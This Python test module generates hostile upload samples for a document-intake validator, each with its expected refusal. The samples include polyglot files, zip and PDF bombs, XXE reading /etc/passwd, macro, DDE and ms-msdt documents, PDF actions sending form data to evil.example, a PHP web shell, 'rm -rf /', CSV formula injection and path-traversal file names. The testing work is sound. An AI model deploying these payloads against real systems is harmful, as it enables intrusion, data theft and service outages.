"""What a hostile depositor sends: each with the answer it must get, a refusal's code or the media type when harmless.

Made in code when asked for; nothing hostile lies in the repository.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from .shapes import (
    ODT,
    OLE,
    TYPES,
    archive,
    bmp,
    chunk,
    docx,
    jpeg,
    odt,
    patched,
    pdf,
    png,
    related,
    segment,
    stream,
    swollen,
    tiff,
    webp,
)

UNKNOWN, PROGRAM, DAMAGED, SWELLS = "type_not_accepted", "program_inside", "file_damaged", "file_swells"
LOCKED, EMPTY = "password_needed", "empty_file"
PDF, PNG, JPEG, TIFF, WEBP, TXT, CSV = (
    "application/pdf",
    "image/png",
    "image/jpeg",
    "image/tiff",
    "image/webp",
    "text/plain",
    "text/csv",
)
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
Case = tuple[str, Callable[[], bytes], str]  # name sent, content, answer
CASES: dict[str, Case] = {}


def case(label: str, name: str, answer: str, made: bytes | Callable[[], bytes]) -> None:
    assert label not in CASES
    CASES[label] = (name, made if callable(made) else (lambda: made), answer)


# --- two natures ---------------------------------------------------------------------------------------------------

ZIP = archive(("run.sh", "#!/bin/sh"))
case("pdf+zip behind", "a.pdf", UNKNOWN, pdf() + ZIP)
case("pdf+zip inside the last lines", "a.pdf", UNKNOWN, pdf() + ZIP + b"\n%%EOF\n")
case("pdf+html in front", "a.pdf", UNKNOWN, b"<html><script>1</script></html>" + pdf())
case("pdf+html in a comment", "a.pdf", UNKNOWN, pdf().replace(b"%\xe2", b"%<html><script>alert(1)</script>\n%\xe2"))
case("pdf header at an offset", "a.pdf", UNKNOWN, b"\n" * 512 + pdf())
case("pdf+executable behind", "a.pdf", UNKNOWN, pdf() + b"MZ\x90\0" + bytes(300))
case("gif+js", "a.gif", UNKNOWN, b"GIF89a/*" + bytes(30) + b"*/=1;alert(1)")
case("gif+js as png", "a.png", UNKNOWN, b"GIF89a/*" + bytes(30) + b"*/=1;alert(1)")
case("jpeg+zip", "a.jpg", UNKNOWN, jpeg() + ZIP)
case("jpeg+pdf in a comment", "a.jpg", UNKNOWN, jpeg(comment=pdf()))
case("jpeg+script in a comment", "a.jpg", UNKNOWN, jpeg(comment=b"<script>alert(1)</script>"))
case("jpeg+php in a comment", "a.jpg", UNKNOWN, jpeg(comment=b"<?php system($_GET[0]); ?>"))
case("jpeg with an executable behind", "a.jpg", UNKNOWN, jpeg() + b"MZ\x90\0" + bytes(500))
case("jpeg with a program behind zeros", "a.jpg", UNKNOWN, jpeg() + bytes(90) + b"\x7fELF" + bytes(500))
case("png+zip", "a.png", UNKNOWN, png() + ZIP)
case("png+rar", "a.png", UNKNOWN, png() + b"Rar!\x1a\x07\x01\0" + bytes(60))
case("png+html in its text", "a.png", UNKNOWN, png(more=chunk(b"tEXt", b"Comment\0<html><script>1</script>")))
case("webp+html behind", "a.webp", UNKNOWN, webp(tail=b"<html><script>1</script></html>"))
case("tiff+script in front", "a.tiff", UNKNOWN, tiff() + b"<script>alert(1)</script>")
case("docx with a picture in front", "a.docx", UNKNOWN, b"GIF89a" + docx())
case("html as docx", "a.docx", UNKNOWN, b"<html><body>1</body></html>")
case("mhtml as doc", "a.doc", UNKNOWN, b"MIME-Version: 1.0\nContent-Type: multipart/related\n" + bytes(600))

# --- what is something else ----------------------------------------------------------------------------------------

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
case("svg with a script", "a.svg", UNKNOWN, SVG)
case("svg as png", "a.png", UNKNOWN, SVG)
case("svg as text", "a.txt", UNKNOWN, SVG)
case("svg as text behind a comment", "a.txt", UNKNOWN, b"<!-- x -->" + SVG)
case("svg packed", "a.svgz", UNKNOWN, zlib.compress(SVG))
case("html as text", "a.txt", UNKNOWN, b"\n\t <!DOCTYPE html><script>1</script>")
case("html as csv", "a.csv", UNKNOWN, b"<html><script>1</script></html>")
case("html as text in UTF-16", "a.txt", UNKNOWN, "<html><script>1</script></html>".encode("utf-16"))
case("html as text in UTF-16, big end first", "a.txt", UNKNOWN, b"\xfe\xff" + "<script>1</script>".encode("utf-16-be"))
case("html as text with two marks", "a.txt", UNKNOWN, b"\xef\xbb\xbf\xef\xbb\xbf<html>"[3:])
case("UTF-32 as text", "a.txt", UNKNOWN, "<html>".encode("utf-32"))
case("half a letter of UTF-16", "a.txt", UNKNOWN, b"\xff\xfea\0b")
case("half a pair of UTF-16", "a.txt", UNKNOWN, b"\xff\xfe\x00\xd8a\0")
case("zeros in UTF-16", "a.txt", UNKNOWN, b"\xff\xfea\0\0\0b\0")
case("UTF-7 stays text", "a.txt", TXT, b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-")
case("text with binary", "a.txt", UNKNOWN, b"words\n" * 4000 + b"\x00\x01\x02")
case("rtf as text", "a.txt", UNKNOWN, rb"{\rtf1{\object\objemb}}")
case("postscript as text", "a.txt", UNKNOWN, b"%!PS-Adobe-3.0\n(%pipe%id) (r) file\n")
case("a mail as text", "a.txt", UNKNOWN, b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>1</script>")
case("elf as pdf", "a.pdf", UNKNOWN, b"\x7fELF\2\1\1" + bytes(300))
case("elf as text", "a.txt", UNKNOWN, b"\x7fELFabc")
case("pe as jpg", "a.jpg", UNKNOWN, b"MZ\x90\0" + bytes(300))
case("java as png", "a.png", UNKNOWN, b"\xca\xfe\xba\xbe" + bytes(300))
case("shell script as text", "a.txt", UNKNOWN, b"#!/bin/sh\nrm -rf /\n")
case("php", "a.php", UNKNOWN, b"<?php phpinfo();")
case("php as text", "a.txt", UNKNOWN, b"<?php phpinfo();")
case("a link of Windows", "a.lnk", UNKNOWN, b"L\0\0\0\1\x14\2\0")
case("two endings, the last a program", "letter.pdf.exe", UNKNOWN, pdf())
case("a zero in the ending", "a.pdf\0.exe", UNKNOWN, pdf())
case("an ending of Windows streams", "a.pdf::$DATA", UNKNOWN, pdf())
case("bmp of 50,000 points", "a.bmp", UNKNOWN, bmp(50_000, 50_000))
case("bmp as png", "a.png", UNKNOWN, bmp())
case("empty", "a.pdf", EMPTY, b"")
case("one byte as pdf", "a.pdf", UNKNOWN, b"%")
case("one byte as png", "a.png", UNKNOWN, b"\x89")
case("one byte as docx", "a.docx", UNKNOWN, b"P")
case("one byte as doc", "a.doc", UNKNOWN, b"\xd0")
case("one byte of text", "a.txt", TXT, b"a")
case("a bare signature as doc", "a.doc", UNKNOWN, OLE)
# Neutralised: served as an attachment under its own type; whoever shows or exports cells writes them as text.
case("csv with formulas", "a.csv", CSV, b'=cmd|"/c calc"!A1;@SUM(1);+1;-1\n')
for word in ("png", "jpg", "tiff", "webp"):
    case(f"pdf as {word}", f"a.{word}", UNKNOWN, pdf())
case("png as jpg", "a.jpg", UNKNOWN, png())
case("jpeg as png", "a.png", UNKNOWN, jpeg())
case("tiff as webp", "a.webp", UNKNOWN, tiff())
case("docx as xlsx", "a.xlsx", UNKNOWN, docx())
case("odt as ods", "a.ods", UNKNOWN, odt())

# --- archives ------------------------------------------------------------------------------------------------------

case("flat bomb", "a.docx", SWELLS, lambda: swollen("word/document.xml", 1100, ("[Content_Types].xml", TYPES)))
case(
    "smaller bomb of high ratio",
    "a.docx",
    SWELLS,
    lambda: swollen("word/media/a.png", 200, ("[Content_Types].xml", TYPES)),
)
case("bomb in an odt", "a.odt", SWELLS, lambda: swollen("content.xml", 1100, ("mimetype", ODT)))


def nested(depth: int) -> bytes:
    inner = archive(("0", bytes(1 << 20)))
    for _level in range(depth):
        inner = archive(*((f"{number}.zip", inner) for number in range(16)))
    return inner


def forty_two() -> bytes:
    return docx(*((f"word/lib{number}.zip", nested(2)) for number in range(4)))


def overlapping() -> bytes:
    """Many entries that share one body of zeros."""
    body = docx(*((f"word/media/{number}.png", b"x" * 9000) for number in range(40)))
    first = body.find(b"PK\3\4", 4)
    for number in range(40):
        body = patched(body, f"word/media/{number}.png".encode(), offset=first)
    return body


def quine() -> bytes:
    """An archive whose directory points back at itself: the first member begins where the archive does."""
    inner = docx(("word/self.docx", b"x"))
    return patched(inner, b"word/self.docx", offset=0)


def huge_directory() -> bytes:
    entry = b"PK\1\2" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    front, count = docx(), 1_000_000
    directory = entry * count
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 65535, 65535, len(directory), len(front), 0)
    return front + directory + end


def many_members() -> bytes:
    return docx(*((f"word/{number}", b"") for number in range(20_100)))


def archive_twice() -> bytes:
    return docx(("word/aa.xml", "<a/>"), ("word/ab.xml", "<b/>")).replace(b"word/ab.xml", b"word/aa.xml")


def lzma_member() -> bytes:
    return archive(("[Content_Types].xml", TYPES), ("word/document.xml", "<w/>"), kind=zipfile.ZIP_LZMA)


def locked_member() -> bytes:
    out = bytearray(docx())
    for signature, flags in ((b"PK\1\2", 8), (b"PK\3\4", 6)):
        at = out.find(signature)
        out[at + flags] |= 1
    return bytes(out)


case("nested bomb", "a.docx", UNKNOWN, forty_two)
case("nested bomb as zip", "a.zip", UNKNOWN, lambda: nested(2))
case("members that share their bytes", "a.docx", UNKNOWN, overlapping)
case("an archive that holds itself", "a.docx", UNKNOWN, quine)
case("a directory of a million", "a.docx", UNKNOWN, huge_directory)
case("more members than any document", "a.docx", SWELLS, many_members)
case("a member smaller than it says", "a.docx", SWELLS, lambda: patched(docx(), b"word/document.xml", size=900_000_000))
case(
    "a member of less than it says, slightly", "a.docx", UNKNOWN, lambda: patched(docx(), b"word/document.xml", size=70)
)
case(
    "a member larger than it says",
    "a.docx",
    UNKNOWN,
    lambda: patched(docx(document="<w>" * 90), b"word/document.xml", size=3),
)
case("a member beyond the end", "a.docx", UNKNOWN, lambda: patched(docx(), b"word/document.xml", offset=1 << 30))
case("two members of one name", "a.docx", UNKNOWN, archive_twice)
case("packed with lzma", "a.docx", UNKNOWN, lzma_member)
case("under a password", "a.docx", UNKNOWN, locked_member)
case("a member above the folder", "a.docx", UNKNOWN, docx(("../../etc/passwd", "x")))
case("a member above the folder of Windows", "a.docx", UNKNOWN, docx(("word\\..\\..\\x.xml", "x")))
case("a member from the root", "a.docx", UNKNOWN, docx(("/etc/passwd", "x")))
case("docx cut short", "a.docx", UNKNOWN, lambda: docx(("word/a.xml", "x" * 999))[:-40])
case("docx without its document", "a.docx", UNKNOWN, archive(("a.txt", "hi")))


# --- office documents ----------------------------------------------------------------------------------------------

LAUGHS = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9)
)
EXTERNAL = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document>&e;</w:document>'
case("billion laughs", "a.docx", UNKNOWN, docx(document=LAUGHS + "]><w:document>&j;</w:document>"))
case("an external entity", "a.docx", UNKNOWN, docx(document=EXTERNAL))
case("an external entity in UTF-16", "a.docx", UNKNOWN, docx(document=EXTERNAL.encode("utf-16")))
case("an external entity behind a long comment", "a.docx", UNKNOWN, docx(document=f"<!--{' ' * 70_000}-->{EXTERNAL}"))
case("an external entity in a relation", "a.docx", UNKNOWN, docx(("word/_rels/document.xml.rels", EXTERNAL)))
case("an external entity in an odt", "a.odt", UNKNOWN, odt(content=EXTERNAL))
case("a template fetched from elsewhere", "a.docx", PROGRAM, related("attachedTemplate", "https://evil.example/t.dotm"))
case(
    "a template fetched, spelled in codes",
    "a.docx",
    PROGRAM,
    related("attachedTemplate", "&#104;ttps://evil.example/t"),
)
case("a template on a share", "a.docx", PROGRAM, related("attachedTemplate", "file://evil.example/t.dotm"))
case("a template on the writer's disk", "a.docx", DOCX, related("attachedTemplate", "file:///C:/Office/Normal.dotm"))
case("an object fetched from elsewhere", "a.docx", PROGRAM, related("oleObject", "http://evil.example/x.html!"))
case("a frame fetched from elsewhere", "a.docx", PROGRAM, related("frame", "\\\\evil.example\\share\\x"))
case("an address that starts a program", "a.docx", PROGRAM, related("hyperlink", "ms-msdt:/id PCWDiagnostic"))
case("an mhtml relation", "a.docx", PROGRAM, related("oleObject", "mhtml:http://evil.example/x.mht!x"))
case("an ordinary link", "a.docx", DOCX, related("hyperlink", "https://www.men.gov.example/"))
case("a macro", "a.docx", PROGRAM, docx(("word/vbaProject.bin", b"x")))
case(
    "a macro under another name",
    "a.docx",
    PROGRAM,
    docx(types=TYPES.replace("/>", ">application/vnd.ms-office.vbaProject</Types>")),
)
case(
    "a macro document renamed", "a.docx", PROGRAM, docx(types='<Types ContentType="x.document.macroEnabled.main+xml"/>')
)
case("a docm", "a.docm", UNKNOWN, docx())
case(
    "a package in an object",
    "a.docx",
    PROGRAM,
    docx(("word/embeddings/oleObject1.bin", OLE + bytes(600) + "\1Ole10Native".encode("utf-16-le"))),
)
case(
    "an equation in an object",
    "a.docx",
    DOCX,
    docx(("word/embeddings/oleObject1.bin", OLE + bytes(600) + "Equation Native".encode("utf-16-le"))),
)
case("a program inside", "a.docx", PROGRAM, docx(("word/embeddings/run.exe", b"MZ")))
case("an ActiveX control", "a.docx", PROGRAM, docx(("word/activeX/activeX1.xml", "<ax:ocx/>")))
case(
    "a field that starts a program",
    "a.docx",
    PROGRAM,
    docx(document=r'<w:instrText>DDEAUTO c:\\windows\\cmd.exe "/k calc"</w:instrText>'),
)
case(
    "macros of Excel 4",
    "a.xlsx",
    PROGRAM,
    archive(("[Content_Types].xml", TYPES), ("xl/workbook.xml", "<w/>"), ("xl/macrosheets/sheet1.xml", "<m/>")),
)
case(
    "a link of Excel to a program",
    "a.xlsx",
    PROGRAM,
    archive(
        ("[Content_Types].xml", TYPES),
        ("xl/workbook.xml", "<w/>"),
        ("xl/externalLinks/a.xml", '<ddeLink ddeService="cmd"/>'),
    ),
)
case("odt with Basic", "a.odt", PROGRAM, odt(("Basic/Standard/x.xml", "<x/>")))
case("odt with Python", "a.odt", PROGRAM, odt(("Scripts/python/x.py", "import os")))
case(
    "odt that runs a script on opening",
    "a.odt",
    PROGRAM,
    odt(content='<a><script:event-listener script:event-name="dom:load"/></a>'),
)
case(
    "odt with an address of a script",
    "a.odt",
    PROGRAM,
    odt(content='<text:a xlink:href="vnd.sun.star.script:a.py$b?language=Python"/>'),
)
case("doc with a macro", "a.doc", PROGRAM, OLE + bytes(600) + "_VBA_PROJECT".encode("utf-16-le"))
case("xls with a macro", "a.xls", PROGRAM, OLE + bytes(600) + "VBA\0".encode("utf-16-le"))
case("doc with a package", "a.doc", PROGRAM, OLE + bytes(600) + "\1Ole10Native".encode("utf-16-le"))

# --- PDF -----------------------------------------------------------------------------------------------------------

JS = b"<</S/JavaScript/JS(app.alert(1))>>"


def object_stream(objects: bytes, **options: bool) -> bytes:
    return pdf(stream(b"/Type/ObjStm/N 1/First 4", objects, **options))


case("pdf script", "a.pdf", PROGRAM, pdf(JS))
case("pdf script on opening", "a.pdf", PROGRAM, pdf().replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction" + JS))
case(
    "pdf script on turning the page",
    "a.pdf",
    PROGRAM,
    pdf().replace(b"/Type/Page/", b"/Type/Page/AA<</O" + JS + b">>/"),
)
case("pdf script spelled in codes", "a.pdf", PROGRAM, pdf(b"<</S/J#61va#53cript/JS(1)>>"))
case("pdf script in a stream of objects", "a.pdf", PROGRAM, object_stream(JS))
case("pdf script in a stream spelled in codes", "a.pdf", PROGRAM, object_stream(JS).replace(b"/ObjStm", b"/O#62jStm"))
case("pdf script far down a stream", "a.pdf", SWELLS, lambda: object_stream(bytes(20 << 20) + JS))
case(
    "pdf objects packed oddly",
    "a.pdf",
    UNKNOWN,
    object_stream(JS.hex().encode(), packed=False).replace(b"/ObjStm", b"/ObjStm/Filter/ASCIIHexDecode"),
)
case(
    "pdf objects behind a predictor",
    "a.pdf",
    UNKNOWN,
    object_stream(JS).replace(b"/ObjStm", b"/ObjStm/DecodeParms<</Predictor 12>>"),
)
case(
    "pdf objects with a mistake in them",
    "a.pdf",
    DAMAGED,
    lambda: object_stream(b"x" * 90_000 + JS).replace(zlib.compress(b"x" * 90_000 + JS)[60:70], b"\xff" * 10),
)
case("pdf that starts a program", "a.pdf", PROGRAM, pdf(b"<</S /Launch/F(cmd.exe)>>"))
case("pdf with a film", "a.pdf", PROGRAM, pdf(b"<</Subtype/RichMedia>>"))
case("pdf form that is a program", "a.pdf", PROGRAM, pdf(b"<</XFA[(template) 5 0 R]/Fields[]>>"))
case("pdf that sends what is typed", "a.pdf", PROGRAM, pdf(b"<</S/SubmitForm/F(http://evil.example)>>"))
case("pdf that goes to another file", "a.pdf", PROGRAM, pdf(rb"<</S/GoToR/F(\\\\evil.example\\s\\x.pdf)>>"))
case("pdf that goes to an embedded file", "a.pdf", PROGRAM, pdf(b"<</S/GoToE/T<</R/C>>>>"))
case("pdf that imports data", "a.pdf", PROGRAM, pdf(b"<</S/ImportData/F(c:/x.fdf)>>"))
case("pdf with a local address", "a.pdf", PROGRAM, pdf(b"<</S/URI/URI(file:///c:/windows/system32/calc.exe)>>"))
case("pdf with a script as address", "a.pdf", PROGRAM, pdf(b"<</S/URI/URI( javascript:alert\\(1\\))>>"))
case("pdf with an ordinary address", "a.pdf", PDF, pdf(b"<</S/URI/URI(https://www.men.gov.example/)>>"))
case(
    "pdf that opens on its first page",
    "a.pdf",
    PDF,
    pdf().replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction[3 0 R /Fit]"),
)
case("pdf with a program attached by name", "a.pdf", PROGRAM, pdf(b"<</Type/Filespec/F(run.exe)/UF(run.exe)>>"))
case("pdf with a program attached", "a.pdf", PROGRAM, pdf(stream(b"/Type/EmbeddedFile", b"MZ\x90\0" + bytes(900))))
case("pdf with an archive attached", "a.pdf", PROGRAM, pdf(stream(b"/Type/EmbeddedFile", ZIP)))
case("pdf with a page attached", "a.pdf", UNKNOWN, pdf(stream(b"/Type/EmbeddedFile", b"<html><script>", packed=False)))
case(
    "pdf with an invoice attached", "a.pdf", PDF, pdf(stream(b"/Type/EmbeddedFile", b"<?xml version='1.0'?><invoice/>"))
)
case("pdf without an end", "a.pdf", UNKNOWN, pdf()[:-8])
case("pdf of a million pages in its count", "a.pdf", PDF, pdf().replace(b"/Count 1", b"/Count 999999999"))
case("pdf whose pages run in a circle", "a.pdf", PDF, pdf().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]"))
case(
    "pdf whose references run in a circle",
    "a.pdf",
    PDF,
    lambda: pdf(trailer=b"/Prev 9").replace(b"/Prev 9", b"/Prev %d" % pdf(trailer=b"/Prev 9").find(b"xref")),
)
case("pdf of a hundred thousand pages", "a.pdf", PDF, lambda: pdf(*[b"<</Type/Page/Parent 2 0 R>>"] * 100_000))
case("pdf bomb: one stream of objects", "a.pdf", SWELLS, lambda: object_stream(bytes(400 << 20)))
case(
    "pdf bomb: many streams of objects", "a.pdf", SWELLS, lambda: pdf(*[stream(b"/Type/ObjStm", bytes(15 << 20))] * 60)
)
case(
    "pdf bomb: streams that only take",
    "a.pdf",
    SWELLS,
    lambda: pdf(stream(b"/Type/ObjStm", b"").replace(zlib.compress(b""), b"\x78\x9c" + b"\0\0\0\xff\xff" * 18_000_000)),
)
case("pdf of nothing but names", "a.pdf", SWELLS, lambda: pdf() + b"/ObjStm " * 10_000_000)
case(
    "pdf of streams inside each other",
    "a.pdf",
    SWELLS,
    lambda: pdf() + b"obj/ObjStm/Filter/FlateDecode stream\n\x78\x9c\3\0\0\0\0\1" * 1_000_000,
)
case("pdf of names of files", "a.pdf", PROGRAM, lambda: pdf() + b"/F(" * 5_000_000 + b".exe)" * 5_000_000)
case("pdf of slashes", "a.pdf", PDF, lambda: pdf() + b"/" * 60_000_000)


def encrypted(*, password: str, script: bool = False) -> bytes:
    """With RC4 of 128 bits, as scanners and banks still do; `password` is asked for on opening, when there is one."""
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if script:
        action = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert(1)")}
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject({NameObject(k): v for k, v in action.items()})
    writer.encrypt(password, "owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def hidden_under_encryption() -> bytes:
    """The script is in a stream of objects, and that is encrypted: nothing of it is to be read from outside."""
    from pyhanko.pdf_utils import generic, writer

    made = writer.PdfFileWriter(stream_xrefs=True)
    made.insert_page(
        writer.PageObject(contents=made.add_object(generic.StreamObject(stream_data=b"")), media_box=(0, 0, 9, 9))
    )
    made.encrypt(owner_pass="owner", user_pass="")
    action = {generic.pdf_name("/S"): generic.pdf_name("/JavaScript"), generic.pdf_name("/JS"): generic.pdf_string("1")}
    hidden = made.add_object(generic.DictionaryObject(action), obj_stream=made.prepare_object_stream())
    made.root[generic.pdf_name("/OpenAction")] = hidden
    out = io.BytesIO()
    made.write(out)
    assert b"JavaScript" not in out.getvalue()
    return out.getvalue()


case("pdf script in an encrypted stream of objects", "a.pdf", PROGRAM, hidden_under_encryption)
case("pdf under a password", "a.pdf", LOCKED, lambda: encrypted(password="secret"))
case("pdf that forbids printing", "a.pdf", PDF, lambda: encrypted(password=""))
case("pdf that forbids printing, with a script", "a.pdf", PROGRAM, lambda: encrypted(password="", script=True))
case(
    "pdf that only claims a password",
    "a.pdf",
    PDF,
    pdf(trailer=b"/Encrypt 99 0 R/ID[(a)(a)]").replace(b"1.7", b"1.4"),
)

# --- pictures ------------------------------------------------------------------------------------------------------


def webp_extended(width: int, height: int) -> bytes:
    body = b"\0\0\0\0" + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    data = b"VP8X" + struct.pack("<I", len(body)) + body
    return b"RIFF" + struct.pack("<I", len(data) + 4) + b"WEBP" + data


case("png of 50,000 points", "a.png", SWELLS, png(50_000, 50_000, zlib.compress(b"")))
case("png of 50,000 points, small on disk", "a.png", SWELLS, lambda: png(50_000, 20))
case("jpeg of 50,000 points", "a.jpg", SWELLS, jpeg(50_000, 50_000))
case("tiff of 50,000 points", "a.tif", SWELLS, tiff(50_000, 50_000))
case("webp of 16,384 points a side", "a.webp", WEBP, webp(16_384, 16_384))
case("webp of 50,000 points", "a.webp", SWELLS, webp_extended(50_000, 50_000))
case("png that unpacks to more than its points", "a.png", SWELLS, lambda: png(8, 8, zlib.compress(bytes(200 << 20))))
case("png of as many points as may be", "a.png", PNG, lambda: png(20_000, 14_000))
case("png of less than its points", "a.png", DAMAGED, png(8, 8, zlib.compress(b"\0" * 9)))
case("png of no width", "a.png", DAMAGED, png(0, 8))
case("png whose sum is wrong", "a.png", DAMAGED, png().replace(b"IDAT", b"IDAX"))
case(
    "png without points",
    "a.png",
    DAMAGED,
    b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 9, 9, 8, 0, 0, 0, 0)) + chunk(b"IEND"),
)
case("png of endless chunks", "a.png", SWELLS, lambda: png(more=chunk(b"teXt") * 200_000))
case("png cut short", "a.png", DAMAGED, png(90, 90)[:-30])
case("png cut in its header", "a.png", DAMAGED, png()[:20])
case("jpeg cut short", "a.jpg", DAMAGED, jpeg()[:-20])
case("jpeg cut in its header", "a.jpg", DAMAGED, jpeg()[:40])
case("jpeg without points", "a.jpg", DAMAGED, b"\xff\xd8" + segment(0xE0, b"JFIF\0") + b"\xff\xd9")
case("jpeg of a thousand passes", "a.jpg", SWELLS, lambda: jpeg(scans=1000))
case("jpeg of endless filling", "a.jpg", DAMAGED, lambda: jpeg()[:-2] + b"\xff" * 50_000_000 + b"\0")
case("tiff cut short", "a.tif", DAMAGED, tiff()[:-30])
case("tiff whose points are beyond its end", "a.tif", DAMAGED, tiff(beyond=1 << 20))
case("tiff whose pages run in a circle", "a.tif", DAMAGED, tiff(pages=3, loop=True))
case("tiff of five thousand pages", "a.tif", SWELLS, lambda: tiff(pages=5000))
case("tiff of endless entries", "a.tif", SWELLS, lambda: b"II*\0\x08\0\0\0" + b"\xff\xff" + bytes(800_000))
case(
    "tiff of four billion strips",
    "a.tif",
    SWELLS,
    tiff().replace(struct.pack("<HHI", 273, 4, 1), struct.pack("<HHI", 273, 4, 0xFFFFFFFF)),
)
case("webp cut short", "a.webp", DAMAGED, webp()[:-6])
case("webp that lies about its length", "a.webp", DAMAGED, webp().replace(b"RIFF\x1c", b"RIFF\xff"))


# --- names ---------------------------------------------------------------------------------------------------------

NAMES = {
    "right-to-left override": ("a\u202efdp.exe", "afdp.exe"),
    "direction marks": ("a\u200f\u2066b.pdf", "ab.pdf"),
    "path upwards": ("../../../../etc/passwd.pdf", "passwd.pdf"),
    "path of Windows": ("C:\\Windows\\win.pdf", "win.pdf"),
    "absolute path": ("/etc/shadow.pdf", "shadow.pdf"),
    "a zero": ("a\0.pdf", "a.pdf"),
    "control characters": ("a\r\nSet-Cookie: x=1\x1b[2J.pdf", "aSet-Cookie_ x=1[2J.pdf"),
    "trailing dots and spaces": ("a.pdf. . .", "a.pdf"),
    "a device": ("CON.pdf", "_CON.pdf"),
    "a device with two endings": ("nul.tar.pdf", "_nul.tar.pdf"),
    "a device with a number": ("com1.pdf", "_com1.pdf"),
    "markup": ("<img src=x onerror=1>.pdf", "_img src=x onerror=1_.pdf"),
    "255 bytes": ("a" * 300 + ".pdf", "a" * 251 + ".pdf"),
    "255 bytes of two each": ("ع" * 300 + ".pdf", "ع" * 125 + ".pdf"),
    "255 bytes of four each": ("𞤀" * 100 + ".pdf", "𞤀" * 62 + ".pdf"),
    "half a letter": ("a\ud800.pdf", "a.pdf"),
    "a hidden file": (".htaccess.pdf", "htaccess.pdf"),
    "an ending of a thousand letters": ("a." + "x" * 1000, "a." + "x" * 16),
    "nothing but dots": ("....", "file"),
    "other slashes": ("a\u2215..\u2044b.pdf", "a\u2215..\u2044b.pdf"),
}
